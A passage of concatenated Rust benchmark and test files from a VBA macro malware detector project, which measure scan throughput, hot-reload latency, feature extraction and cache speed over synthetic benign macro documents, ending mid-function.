pub fn bar(label: &str, value: f64, max: f64, width: usize) -> String {
    let filled = if max > 0.0 {
        ((value / max) * width as f64).round() as usize
    } else {
        0
    };
    format!(
        "{label:<28} | {:<width$} {value:.3}",
        "#".repeat(filled.min(width))
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults() {
        // Env-independent behaviour of the helpers themselves.
        assert!(scale() > 0.0 && scale() <= 1.0);
        assert!(folds() >= 2);
        assert!(corpus_spec().total_macros() > 0);
    }

    #[test]
    fn bars_scale() {
        let b = bar("x", 0.5, 1.0, 10);
        assert!(b.contains("#####"));
        assert!(!bar("x", 0.0, 1.0, 10).contains('#'));
    }
}
