//! Parallel vs sequential batch-scan throughput over an on-disk mixed
//! corpus, recorded to `results/BENCH_scan.json` so `scripts/ci.sh` can
//! gate on it.
//!
//! This bench rolls its own timing instead of going through the criterion
//! stub: the CI gates need machine-readable output (docs, bytes, cores,
//! per-engine throughput, speedup, metrics overhead, per-stage
//! throughput), and a best-of-N wall-clock measurement of the whole batch
//! is the honest unit here — the engines are batch engines, not
//! per-document kernels.
//!
//! Two observability numbers ride along:
//!
//! - `metrics_overhead_pct`: best-of-N parallel batch with an enabled
//!   [`MetricsSink`] vs the plain run, as a percentage slowdown (floored
//!   at zero — noise can make the metered run "faster"). The ISSUE's
//!   acceptance bar is ≤ 5%.
//! - `stage_<name>_ms` / `stage_<name>_docs_per_sec`: per-stage totals
//!   from a metered sequential run, one flat key pair per pipeline stage
//!   that spent at least [`STAGE_NOISE_FLOOR_MS`]. The regression gate
//!   compares stage throughput against `results/BENCH_baseline.json`.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use vbadet::{
    scan_paths_parallel, scan_paths_with_policy, Detector, DetectorConfig, IsolateConfig,
    MetricsSink, ScanPolicy,
};
use vbadet_corpus::CorpusSpec;
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipWriter};

/// Batch size. Sized so per-worker fixed costs (process spawn + detector
/// reload in the isolate engine) amortize to noise and the engine-ratio
/// gates measure steady-state throughput, not startup: the fused scoring
/// hot path cut per-document cost ~3x, so the old 500-doc batch started
/// charging the isolate engine for its spawn overhead.
const DOCS: usize = 1200;
const REPS: usize = 3;
/// Stages totalling less than this per batch are measurement noise; they
/// are left out of the JSON so the regression gate never flaps on them.
const STAGE_NOISE_FLOOR_MS: f64 = 1.0;

/// A realistically sized module (~150 statements) so the per-document
/// cost is parse/feature work, not thread handoff — the regime the worker
/// pool exists for.
fn macro_project(i: usize) -> Vec<u8> {
    let mut body = String::new();
    for line in 0..150 {
        body.push_str(&format!(
            "    v{line} = v{} + {i} Mod {}\r\n",
            line.max(1) - 1,
            line + 2
        ));
    }
    let mut b = VbaProjectBuilder::new("P");
    b.add_module(
        &format!("Module{i}"),
        &format!("Sub Work{i}()\r\n{body}End Sub\r\n"),
    );
    b.build().unwrap()
}

/// An OOXML `.docm`: ZIP container with the project under
/// `word/vbaProject.bin`, so the zip inflate stage is part of what the
/// stage throughput keys measure.
fn docm_doc(i: usize) -> Vec<u8> {
    let mut zip = ZipWriter::new();
    zip.add_file(
        "[Content_Types].xml",
        b"<?xml version=\"1.0\"?><Types/>",
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file(
        "word/document.xml",
        b"<?xml version=\"1.0\"?><document/>",
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file(
        "word/vbaProject.bin",
        &macro_project(i),
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.finish()
}

fn write_corpus(dir: &Path) -> (Vec<PathBuf>, u64) {
    let mut rng = StdRng::seed_from_u64(0x5CA1AB1E);
    let mut paths = Vec::with_capacity(DOCS);
    let mut total_bytes = 0u64;
    for i in 0..DOCS {
        let bytes: Vec<u8> = match i % 6 {
            0 | 1 => {
                let full = macro_project(i);
                if i % 12 == 6 {
                    // A sprinkling of truncated documents keeps the
                    // failure path in the measurement.
                    let cut = rng.gen_range(1..full.len());
                    full[..cut].to_vec()
                } else {
                    full
                }
            }
            2 | 3 => docm_doc(i),
            4 => {
                let mut ole = OleBuilder::new();
                ole.add_stream("WordDocument", format!("plain text #{i}").as_bytes())
                    .unwrap();
                ole.build()
            }
            _ => format!("junk payload {i}").into_bytes(),
        };
        total_bytes += bytes.len() as u64;
        let path = dir.join(format!("doc{i:04}.bin"));
        std::fs::write(&path, &bytes).unwrap();
        paths.push(path);
    }
    (paths, total_bytes)
}

fn best_of<F: FnMut() -> usize>(mut run: F) -> Duration {
    let mut best = Duration::MAX;
    for _ in 0..REPS {
        let start = Instant::now();
        let scanned = run();
        let elapsed = start.elapsed();
        assert_eq!(scanned, DOCS, "every rep must scan the whole batch");
        best = best.min(elapsed);
    }
    best
}

/// Flat JSON key stem for a stage label: `zip.parse_ns` → `zip_parse`.
fn stage_key(label: &str) -> String {
    label.trim_end_matches("_ns").replace('.', "_")
}

fn main() {
    // `cargo test` executes harness=false bench binaries with `--test`;
    // timing is meaningless there, so bow out like the criterion stub does.
    if std::env::args().any(|a| a == "--test") {
        return;
    }

    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    let jobs = cores.max(2).min(8);

    let dir = std::env::temp_dir().join(format!("vbadet-bench-scan-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let (paths, total_bytes) = write_corpus(&dir);

    let detector = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    );
    let policy = ScanPolicy::default();

    // Warm up the page cache so the sequential baseline (measured first)
    // isn't charged for cold reads the parallel pass then gets for free.
    let warm = scan_paths_with_policy(&detector, &paths, &policy);
    assert_eq!(warm.scanned(), DOCS);

    let seq = best_of(|| scan_paths_with_policy(&detector, &paths, &policy).scanned());
    let par = best_of(|| scan_paths_parallel(&detector, &paths, &policy, jobs).scanned());

    // The process-isolated engine at the same job count: its overhead is
    // per-document (frame codec) plus per-worker (spawn + detector
    // reload), and the CI gate holds it within 50% of the thread pool.
    let isolate_policy = ScanPolicy::default()
        .jobs(jobs)
        .isolated(IsolateConfig::new(vec![env!(
            "CARGO_BIN_EXE_isolate_worker"
        )
        .to_string()]));
    let iso = best_of(|| scan_paths_with_policy(&detector, &paths, &isolate_policy).scanned());

    // The metered parallel batch: a fresh enabled sink per rep so each
    // rep pays the full record path, none amortizes a warm snapshot.
    let par_metered = best_of(|| {
        let metered = ScanPolicy::default().with_metrics(MetricsSink::enabled());
        scan_paths_parallel(&detector, &paths, &metered, jobs).scanned()
    });
    let metrics_overhead_pct =
        ((par_metered.as_secs_f64() / par.as_secs_f64() - 1.0) * 100.0).max(0.0);

    // Per-stage totals from one metered sequential run (sequential so
    // stage time is wall-attributable, not divided across workers).
    let metered = ScanPolicy::default().with_metrics(MetricsSink::enabled());
    let report = scan_paths_with_policy(&detector, &paths, &metered);
    assert_eq!(report.scanned(), DOCS);
    let snapshot = report.metrics.expect("metered run must snapshot");

    let seq_docs_per_sec = DOCS as f64 / seq.as_secs_f64();
    let par_docs_per_sec = DOCS as f64 / par.as_secs_f64();
    let iso_docs_per_sec = DOCS as f64 / iso.as_secs_f64();
    let speedup = seq.as_secs_f64() / par.as_secs_f64();

    println!(
        "scan_parallel: {DOCS} docs, {total_bytes} bytes, {cores} core(s), jobs={jobs}\n\
           sequential  {:>8.1} docs/s  ({seq:.3?}/batch)\n\
           parallel    {:>8.1} docs/s  ({par:.3?}/batch)\n\
           isolate     {:>8.1} docs/s  ({iso:.3?}/batch)\n\
           speedup     {speedup:>8.2}x\n\
           metrics     {metrics_overhead_pct:>8.2}% overhead ({par_metered:.3?} metered)",
        seq_docs_per_sec, par_docs_per_sec, iso_docs_per_sec,
    );

    // Combined scoring throughput (features + predict), comparable to the
    // pre-split `stage_scan_score_docs_per_sec` baseline key.
    let scoring_ns: u64 = snapshot
        .histograms
        .iter()
        .filter(|(label, _)| matches!(label.as_str(), "scan.features_ns" | "scan.predict_ns"))
        .map(|(_, h)| h.total)
        .sum();
    let scoring_docs_per_sec = if scoring_ns > 0 {
        DOCS as f64 / (scoring_ns as f64 / 1e9)
    } else {
        0.0
    };

    let mut stage_lines = String::new();
    for (label, hist) in &snapshot.histograms {
        if !label.ends_with("_ns") {
            continue; // pool-shape histograms are not time
        }
        let ms = hist.total as f64 / 1e6;
        if ms < STAGE_NOISE_FLOOR_MS {
            continue;
        }
        let key = stage_key(label);
        let docs_per_sec = DOCS as f64 / (hist.total as f64 / 1e9);
        stage_lines.push_str(&format!(
            ",\n  \"stage_{key}_ms\": {ms:.3},\n  \"stage_{key}_docs_per_sec\": {docs_per_sec:.2}"
        ));
    }

    let results_dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../results");
    std::fs::create_dir_all(&results_dir).unwrap();
    let json = format!(
        "{{\n  \"bench\": \"scan_parallel\",\n  \"docs\": {DOCS},\n  \"bytes\": {total_bytes},\n  \
         \"cores\": {cores},\n  \"jobs\": {jobs},\n  \"reps\": {REPS},\n  \
         \"sequential_secs\": {:.6},\n  \"parallel_secs\": {:.6},\n  \"isolate_secs\": {:.6},\n  \
         \"sequential_docs_per_sec\": {:.2},\n  \"parallel_docs_per_sec\": {:.2},\n  \
         \"isolate_docs_per_sec\": {:.2},\n  \
         \"speedup\": {:.4},\n  \"metrics_overhead_pct\": {metrics_overhead_pct:.2},\n  \
         \"scoring_docs_per_sec\": {scoring_docs_per_sec:.2}{stage_lines}\n}}\n",
        seq.as_secs_f64(),
        par.as_secs_f64(),
        iso.as_secs_f64(),
        seq_docs_per_sec,
        par_docs_per_sec,
        iso_docs_per_sec,
        speedup,
    );
    let out = results_dir.join("BENCH_scan.json");
    std::fs::write(&out, json).unwrap();
    println!("wrote {}", out.display());

    let _ = std::fs::remove_dir_all(&dir);
}
