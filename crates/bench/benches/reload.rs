//! Hot-reload latency tax, recorded to `results/BENCH_reload.json`.
//!
//! Like `serve`, this rolls its own timing: the figure of interest is the
//! client-visible p99 round-trip latency of a `scan` request, measured in
//! two regimes against the same live service —
//!
//! - `steady_p99_ms`: no reloads, the baseline request distribution,
//! - `churn_p99_ms`: an operator connection hot-swaps the model every
//!   500 ms (alternating two saved detectors) for the whole phase.
//!
//! Zero-downtime means the swap is not allowed to stall traffic: a
//! reload builds the new generation off the request path and replaces an
//! `Arc` under a briefly-held lock, so the churn distribution should sit
//! on top of the steady one. The CI gate holds `churn_p99_ms` to at most
//! 2x `steady_p99_ms` — generous enough for scheduler noise on a loaded
//! box, tight enough that a reload that blocks admission (the failure
//! mode this bench exists to catch) trips it immediately.
//!
//! Neither key matches `*_docs_per_sec`, so the throughput-regression
//! gate ignores this file; the reload gate reads it directly.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use vbadet::scan::interrupt;
use vbadet::{serve, Detector, DetectorConfig, Listener, ScanPolicy, ServeConfig};
use vbadet_corpus::CorpusSpec;
use vbadet_ovba::VbaProjectBuilder;

const CLIENTS: usize = 4;
const PHASE_SECS: u64 = 3;
const RELOAD_EVERY: Duration = Duration::from_millis(500);

fn macro_project() -> Vec<u8> {
    let mut body = String::new();
    for line in 0..150 {
        body.push_str(&format!(
            "    v{line} = v{} + {}\r\n",
            line.max(1) - 1,
            line + 2
        ));
    }
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", &format!("Sub Work()\r\n{body}End Sub\r\n"));
    b.build().unwrap()
}

fn connect(addr: std::net::SocketAddr) -> (TcpStream, BufReader<TcpStream>) {
    let stream = TcpStream::connect(addr).unwrap();
    stream.set_nodelay(true).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let reader = BufReader::new(stream.try_clone().unwrap());
    (stream, reader)
}

/// One client looping `line` round trips until `deadline`, returning
/// every observed latency.
fn drive_timed(
    addr: std::net::SocketAddr,
    line: &str,
    expect: &str,
    deadline: Instant,
) -> Vec<Duration> {
    let (mut writer, mut reader) = connect(addr);
    let framed = format!("{line}\n");
    let mut reply = String::new();
    let mut latencies = Vec::new();
    while Instant::now() < deadline {
        let start = Instant::now();
        writer.write_all(framed.as_bytes()).unwrap();
        reply.clear();
        reader.read_line(&mut reply).unwrap();
        latencies.push(start.elapsed());
        assert!(
            reply.contains(expect),
            "reload bench: unexpected reply {reply:?} (wanted {expect:?})"
        );
    }
    latencies
}

/// One measurement phase: `CLIENTS` concurrent scan loops for
/// `PHASE_SECS`, with an optional reload churn riding alongside.
fn phase(
    addr: std::net::SocketAddr,
    scan_line: &str,
    models: Option<(&PathBuf, &PathBuf)>,
) -> (Vec<Duration>, u64) {
    let deadline = Instant::now() + Duration::from_secs(PHASE_SECS);
    let reloads = AtomicU64::new(0);
    let mut latencies = Vec::new();
    thread::scope(|s| {
        let handles: Vec<_> = (0..CLIENTS)
            .map(|_| s.spawn(|| drive_timed(addr, scan_line, "\"verdicts\"", deadline)))
            .collect();
        if let Some((a, b)) = models {
            let reloads = &reloads;
            s.spawn(move || {
                let (mut writer, mut reader) = connect(addr);
                let mut reply = String::new();
                let mut n = 0u64;
                while Instant::now() < deadline {
                    let path = if n % 2 == 0 { b } else { a };
                    writer
                        .write_all(format!("reload {}\n", path.display()).as_bytes())
                        .unwrap();
                    reply.clear();
                    reader.read_line(&mut reply).unwrap();
                    assert!(
                        reply.contains("\"op\":\"reload\""),
                        "reload bench: swap failed: {reply}"
                    );
                    reloads.fetch_add(1, Ordering::Relaxed);
                    n += 1;
                    thread::sleep(RELOAD_EVERY);
                }
            });
        }
        for h in handles {
            latencies.extend(h.join().unwrap());
        }
    });
    (latencies, reloads.load(Ordering::Relaxed))
}

fn percentile_ms(latencies: &mut [Duration], pct: f64) -> f64 {
    assert!(!latencies.is_empty(), "a phase produced no samples");
    latencies.sort_unstable();
    let idx = ((latencies.len() - 1) as f64 * pct / 100.0).round() as usize;
    latencies[idx].as_secs_f64() * 1e3
}

fn main() {
    if std::env::args().any(|a| a == "--test") {
        return;
    }

    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    let workers = cores.clamp(2, 8);

    let dir = std::env::temp_dir().join(format!("vbadet-bench-reload-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let doc_path = dir.join("doc.bin");
    std::fs::write(&doc_path, macro_project()).unwrap();

    let spec = CorpusSpec::paper().scaled(0.002);
    let detector = Detector::train_on_corpus(&DetectorConfig::default(), &spec);
    let seeded = DetectorConfig {
        seed: 99,
        ..DetectorConfig::default()
    };
    let model_a = dir.join("model-a.txt");
    std::fs::write(&model_a, detector.save()).unwrap();
    let model_b = dir.join("model-b.txt");
    std::fs::write(&model_b, Detector::train_on_corpus(&seeded, &spec).save()).unwrap();

    let listener = Listener::bind_tcp("127.0.0.1:0").unwrap();
    let addr = listener.tcp_addr().unwrap();
    let mut config = ServeConfig::new(ScanPolicy::default());
    config.workers = workers;
    // Deep enough that the phases measure latency, not shedding.
    config.queue_depth = 4096;

    interrupt::reset();
    let scan_line = format!("scan {}", doc_path.display());

    struct DrainOnDrop;
    impl Drop for DrainOnDrop {
        fn drop(&mut self) {
            interrupt::request_drain();
        }
    }
    let (mut steady, mut churn, reloads) = thread::scope(|s| {
        let server = s.spawn(|| serve(&listener, &detector, &config, None));
        let drain = DrainOnDrop;
        // Server is up — and the first scan's one-time costs are paid —
        // before either phase starts timing.
        drive_timed(
            addr,
            &scan_line,
            "\"verdicts\"",
            Instant::now() + Duration::from_millis(200),
        );

        let (steady, _) = phase(addr, &scan_line, None);
        let (churn, reloads) = phase(addr, &scan_line, Some((&model_a, &model_b)));

        drop(drain);
        let summary = server.join().unwrap();
        assert_eq!(summary.shed, 0, "the bench phases must not shed");
        (steady, churn, reloads)
    });

    assert!(
        reloads >= 3,
        "the churn phase managed only {reloads} reloads; nothing was measured"
    );
    let steady_n = steady.len();
    let churn_n = churn.len();
    let steady_p99 = percentile_ms(&mut steady, 99.0);
    let steady_p50 = percentile_ms(&mut steady, 50.0);
    let churn_p99 = percentile_ms(&mut churn, 99.0);
    let churn_p50 = percentile_ms(&mut churn, 50.0);

    println!(
        "reload: {CLIENTS} clients, {workers} workers, {cores} core(s), \
         {PHASE_SECS}s per phase\n\
           steady  p50 {steady_p50:>7.2} ms   p99 {steady_p99:>7.2} ms  ({steady_n} reqs)\n\
           churn   p50 {churn_p50:>7.2} ms   p99 {churn_p99:>7.2} ms  \
         ({churn_n} reqs, {reloads} reloads)",
    );

    let results_dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../results");
    std::fs::create_dir_all(&results_dir).unwrap();
    let json = format!(
        "{{\n  \"bench\": \"reload\",\n  \"clients\": {CLIENTS},\n  \
         \"phase_secs\": {PHASE_SECS},\n  \"workers\": {workers},\n  \
         \"cores\": {cores},\n  \"reloads\": {reloads},\n  \
         \"steady_requests\": {steady_n},\n  \"churn_requests\": {churn_n},\n  \
         \"steady_p50_ms\": {steady_p50:.3},\n  \"steady_p99_ms\": {steady_p99:.3},\n  \
         \"churn_p50_ms\": {churn_p50:.3},\n  \"churn_p99_ms\": {churn_p99:.3}\n}}\n"
    );
    let out = results_dir.join("BENCH_reload.json");
    std::fs::write(&out, json).unwrap();
    println!("wrote {}", out.display());

    let _ = std::fs::remove_dir_all(&dir);
}
