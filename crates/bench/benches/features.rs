//! Fused single-pass feature extraction vs the historical multi-pass
//! reference, recorded to `results/BENCH_features.json` so `scripts/ci.sh`
//! can gate on the speedup.
//!
//! Hand-rolled timing for the same reason as `scan_parallel`: the CI gate
//! needs machine-readable throughput numbers, and the honest unit is a
//! best-of-N sweep over a realistic macro set — both paths walk identical
//! inputs and are proven bit-identical by `tests/feature_equivalence.rs`,
//! so this measures cost, not behaviour.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use vbadet_corpus::{generate_macros, CorpusSpec};
use vbadet_features::{reference, FeatureScratch, FeatureSet};

const REPS: usize = 5;

fn best_of<F: FnMut() -> f64>(mut run: F) -> (Duration, f64) {
    let mut best = Duration::MAX;
    let mut sink = 0.0;
    for _ in 0..REPS {
        let start = Instant::now();
        sink = run();
        best = best.min(start.elapsed());
    }
    (best, sink)
}

fn main() {
    if std::env::args().any(|a| a == "--test") {
        return;
    }

    // The paper-shaped corpus at a scale that yields a few thousand
    // modules: plain and obfuscated macros in their calibrated mix.
    let macros = generate_macros(&CorpusSpec::paper().scaled(0.1));
    let sources: Vec<&str> = macros.iter().map(|m| m.source.as_str()).collect();
    let docs = sources.len();
    let bytes: usize = sources.iter().map(|s| s.len()).sum();

    // Both passes fold V1 into a sink the optimizer cannot elide.
    let mut scratch = FeatureScratch::default();
    let (fused, fused_sink) = best_of(|| {
        sources
            .iter()
            .map(|s| scratch.extract(FeatureSet::V, s)[0] + scratch.extract(FeatureSet::J, s)[0])
            .sum()
    });
    let (refr, ref_sink) = best_of(|| {
        sources
            .iter()
            .map(|s| reference::v_features(s)[0] + reference::j_features(s)[0])
            .sum()
    });
    assert_eq!(
        fused_sink.to_bits(),
        ref_sink.to_bits(),
        "paths diverged inside the bench itself"
    );

    let fused_docs_per_sec = docs as f64 / fused.as_secs_f64();
    let reference_docs_per_sec = docs as f64 / refr.as_secs_f64();
    let speedup = refr.as_secs_f64() / fused.as_secs_f64();

    println!(
        "features: {docs} modules, {bytes} bytes (V + J per module)\n\
           fused      {fused_docs_per_sec:>10.1} docs/s  ({fused:.3?}/sweep)\n\
           reference  {reference_docs_per_sec:>10.1} docs/s  ({refr:.3?}/sweep)\n\
           speedup    {speedup:>10.2}x"
    );

    let results_dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../results");
    std::fs::create_dir_all(&results_dir).unwrap();
    let json = format!(
        "{{\n  \"bench\": \"features\",\n  \"docs\": {docs},\n  \"bytes\": {bytes},\n  \
         \"reps\": {REPS},\n  \
         \"fused_docs_per_sec\": {fused_docs_per_sec:.2},\n  \
         \"reference_docs_per_sec\": {reference_docs_per_sec:.2},\n  \
         \"speedup_vs_reference\": {speedup:.4}\n}}\n"
    );
    let out = results_dir.join("BENCH_features.json");
    std::fs::write(&out, json).unwrap();
    println!("wrote {}", out.display());
}
