//! End-to-end scan cost: document bytes → container parse → VBA extraction
//! → features → verdict, for both container families.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;
use vbadet::{
    scan_documents, scan_documents_with_policy, Detector, DetectorConfig, ScanLimits, ScanPolicy,
};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory, DocumentKind};

fn pipeline(c: &mut Criterion) {
    let spec = CorpusSpec::paper().scaled(0.01);
    let macros = generate_macros(&spec);
    let files = DocumentFactory::new(&spec, &macros).build_all();
    let detector = Detector::train_on_corpus(&DetectorConfig::default(), &spec);

    let ole_doc = files
        .iter()
        .find(|f| f.kind == DocumentKind::WordDoc)
        .expect("corpus has .doc files");
    let ooxml_doc = files
        .iter()
        .find(|f| f.kind == DocumentKind::ExcelXlsm)
        .expect("corpus has .xlsm files");

    let mut group = c.benchmark_group("scan_document");
    group.sample_size(20);
    for (name, doc) in [("legacy_doc", ole_doc), ("ooxml_xlsm", ooxml_doc)] {
        group.throughput(Throughput::Bytes(doc.bytes.len() as u64));
        group.bench_function(name, |b| {
            b.iter(|| black_box(detector.scan_document(black_box(&doc.bytes)).unwrap()))
        });
    }
    group.finish();

    let mut group = c.benchmark_group("score_macro");
    let plain = &macros.iter().find(|m| !m.obfuscated).unwrap().source;
    let obf = &macros.iter().find(|m| m.obfuscated).unwrap().source;
    for (name, src) in [("plain", plain), ("obfuscated", obf)] {
        group.throughput(Throughput::Bytes(src.len() as u64));
        group.bench_function(name, |b| {
            b.iter(|| black_box(detector.score(black_box(src))))
        });
    }
    group.finish();

    // Batch-scan throughput under hostile conditions: a corpus where 10% of
    // the documents are randomly mutated (byte flips / truncation), pushed
    // through the never-abort engine with strict limits. This is the triage
    // workload the robustness layer exists for.
    let mut rng = StdRng::seed_from_u64(0x10AD);
    let batch: Vec<(String, Vec<u8>)> = files
        .iter()
        .enumerate()
        .map(|(i, f)| {
            let mut bytes = f.bytes.clone();
            if i % 10 == 0 {
                if rng.gen_bool(0.5) {
                    for _ in 0..8 {
                        let j = rng.gen_range(0..bytes.len());
                        bytes[j] ^= rng.gen_range(1..=255u8);
                    }
                } else {
                    bytes.truncate(rng.gen_range(1..bytes.len()));
                }
            }
            (f.name.clone(), bytes)
        })
        .collect();
    let total_bytes: u64 = batch.iter().map(|(_, b)| b.len() as u64).sum();
    let limits = ScanLimits::strict();

    let mut group = c.benchmark_group("batch_scan");
    group.sample_size(10);
    group.throughput(Throughput::Bytes(total_bytes));
    group.bench_function("mutated_corpus_10pct", |b| {
        b.iter(|| {
            let docs = batch
                .iter()
                .map(|(n, bytes)| (n.as_str(), bytes.as_slice()));
            let report = scan_documents(black_box(&detector), docs, &limits);
            assert_eq!(report.scanned(), batch.len());
            black_box(report)
        })
    });

    // Same hostile batch under the full scan policy: a per-document
    // wall-clock deadline plus the degradation ladder. Measures the
    // overhead of budget checks on the (mostly-clean) hot path — the
    // budget `charge` calls amortize clock reads, so this should track
    // `mutated_corpus_10pct` closely.
    let policy = ScanPolicy::with_limits(limits)
        .deadline_ms(50)
        .with_ladder();
    group.bench_function("scan_with_deadline", |b| {
        b.iter(|| {
            let docs = batch
                .iter()
                .map(|(n, bytes)| (n.as_str(), bytes.as_slice()));
            let report = scan_documents_with_policy(black_box(&detector), docs, &policy);
            assert_eq!(report.scanned(), batch.len());
            black_box(report)
        })
    });
    group.finish();
}

criterion_group!(benches, pipeline);
criterion_main!(benches);
