//! End-to-end scan cost: document bytes → container parse → VBA extraction
//! → features → verdict, for both container families.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;
use vbadet::{Detector, DetectorConfig};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory, DocumentKind};

fn pipeline(c: &mut Criterion) {
    let spec = CorpusSpec::paper().scaled(0.01);
    let macros = generate_macros(&spec);
    let files = DocumentFactory::new(&spec, &macros).build_all();
    let detector = Detector::train_on_corpus(&DetectorConfig::default(), &spec);

    let ole_doc = files
        .iter()
        .find(|f| f.kind == DocumentKind::WordDoc)
        .expect("corpus has .doc files");
    let ooxml_doc = files
        .iter()
        .find(|f| f.kind == DocumentKind::ExcelXlsm)
        .expect("corpus has .xlsm files");

    let mut group = c.benchmark_group("scan_document");
    group.sample_size(20);
    for (name, doc) in [("legacy_doc", ole_doc), ("ooxml_xlsm", ooxml_doc)] {
        group.throughput(Throughput::Bytes(doc.bytes.len() as u64));
        group.bench_function(name, |b| {
            b.iter(|| black_box(detector.scan_document(black_box(&doc.bytes)).unwrap()))
        });
    }
    group.finish();

    let mut group = c.benchmark_group("score_macro");
    let plain = &macros.iter().find(|m| !m.obfuscated).unwrap().source;
    let obf = &macros.iter().find(|m| m.obfuscated).unwrap().source;
    for (name, src) in [("plain", plain), ("obfuscated", obf)] {
        group.throughput(Throughput::Bytes(src.len() as u64));
        group.bench_function(name, |b| b.iter(|| black_box(detector.score(black_box(src)))));
    }
    group.finish();
}

criterion_group!(benches, pipeline);
criterion_main!(benches);
