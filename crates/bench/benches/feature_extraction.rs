//! Feature-extraction throughput: lexing plus V1–V15 / J1–J20 per macro.
//! This is the paper's core claim of a lightweight static method — the
//! per-macro inspection cost.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;
use vbadet_features::{j_features, j_features_from, v_features, v_features_from};
use vbadet_vba::MacroAnalysis;

fn inputs() -> Vec<(String, String)> {
    let mut rng = StdRng::seed_from_u64(11);
    let plain = vbadet_corpus::templates::benign::generate(&mut rng, 4000);
    let mut rng2 = StdRng::seed_from_u64(12);
    let obfuscated = vbadet_obfuscate::Obfuscator::new()
        .with(vbadet_obfuscate::Technique::Encoding)
        .with(vbadet_obfuscate::Technique::LogicWithIntensity(40))
        .with(vbadet_obfuscate::Technique::Random)
        .apply(&plain, &mut rng2)
        .source;
    vec![("plain".into(), plain), ("obfuscated".into(), obfuscated)]
}

fn extraction(c: &mut Criterion) {
    let mut group = c.benchmark_group("features");
    for (name, source) in inputs() {
        group.throughput(Throughput::Bytes(source.len() as u64));
        group.bench_function(format!("lex_{name}"), |b| {
            b.iter(|| black_box(vbadet_vba::tokenize(black_box(&source))))
        });
        group.bench_function(format!("v_features_{name}"), |b| {
            b.iter(|| black_box(v_features(black_box(&source))))
        });
        group.bench_function(format!("j_features_{name}"), |b| {
            b.iter(|| black_box(j_features(black_box(&source))))
        });
        group.bench_function(format!("both_shared_lex_{name}"), |b| {
            b.iter(|| {
                let a = MacroAnalysis::new(black_box(&source));
                black_box((v_features_from(&a), j_features_from(&a)))
            })
        });
    }
    group.finish();
}

criterion_group!(benches, extraction);
criterion_main!(benches);
