//! Content-addressed scan-cache throughput over a duplicate-heavy
//! on-disk corpus, recorded to `results/BENCH_cache.json` so
//! `scripts/ci.sh` can gate on it.
//!
//! The corpus shape is the cache's design target: a mail-gateway burst
//! where the same handful of attachments arrives hundreds of times. Three
//! passes are measured over the identical path list with the sequential
//! engine (so the numbers isolate cache effect from pool scaling):
//!
//! - `uncached`: cache off — every document fully scanned, every time.
//! - `cold`: a fresh in-memory cache per rep — first sight of each
//!   distinct content misses and scans, every later duplicate hits. This
//!   is the pass the equivalence suite proves byte-identical to
//!   `uncached`.
//! - `warm`: one pre-warmed cache shared across reps — every document is
//!   a digest + lookup. The CI gate holds `warm_docs_per_sec` at ≥ 3×
//!   `uncached_docs_per_sec`.
//!
//! The measured hit rate of a metered warm pass rides along so the README
//! table stays honest about what the speedup assumes.

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use vbadet::{
    scan_paths_with_policy, Detector, DetectorConfig, MetricsSink, ScanCache, ScanPolicy,
};
use vbadet_corpus::CorpusSpec;
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipWriter};

const DOCS: usize = 400;
const UNIQUE: usize = 8;
const REPS: usize = 3;

/// A realistically sized module (~150 statements), same scale as the
/// scan_parallel bench, so a miss costs real parse/feature work.
fn macro_project(i: usize) -> Vec<u8> {
    let mut body = String::new();
    for line in 0..150 {
        body.push_str(&format!(
            "    v{line} = v{} + {i} Mod {}\r\n",
            line.max(1) - 1,
            line + 2
        ));
    }
    let mut b = VbaProjectBuilder::new("P");
    b.add_module(
        &format!("Module{i}"),
        &format!("Sub Work{i}()\r\n{body}End Sub\r\n"),
    );
    b.build().unwrap()
}

fn docm_doc(i: usize) -> Vec<u8> {
    let mut zip = ZipWriter::new();
    zip.add_file(
        "[Content_Types].xml",
        b"<?xml version=\"1.0\"?><Types/>",
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file(
        "word/vbaProject.bin",
        &macro_project(i),
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.finish()
}

/// `DOCS` documents drawn from `UNIQUE` distinct contents: macro
/// projects, `.docm` containers, a clean OLE file and one junk payload,
/// interleaved so consecutive documents rarely share content (the
/// unfriendliest order for any accidental "last result" shortcut).
fn write_corpus(dir: &Path) -> (Vec<PathBuf>, u64) {
    let contents: Vec<Vec<u8>> = (0..UNIQUE)
        .map(|u| match u % 4 {
            0 | 1 => macro_project(u),
            2 => docm_doc(u),
            _ => {
                if u % 8 == 3 {
